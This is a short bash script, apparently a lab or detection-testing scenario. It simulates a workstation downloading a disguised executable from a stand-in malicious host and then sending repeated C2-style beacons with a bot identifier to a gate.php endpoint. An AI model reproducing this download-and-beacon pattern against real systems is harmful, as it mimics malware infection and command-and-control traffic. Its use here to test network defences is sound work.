# shellcheck shell=bash
browse pc1 update-check.badcdn.example http://update-check.badcdn.example/invoice_2026.exe -A 'Mozilla/5.0 (Windows NT 10.0; Win64; x64)'
for n in 1 2 3 4 5 6; do
  sleep 5
  browse pc1 update-check.badcdn.example http://update-check.badcdn.example/gate.php \
    -A 'MimamoriTestBot/1.0' -d "bot=KEIRI-PC&n=$n&task=idle"
done
browse pc1 update-check.badcdn.example https://update-check.badcdn.example/gate.php
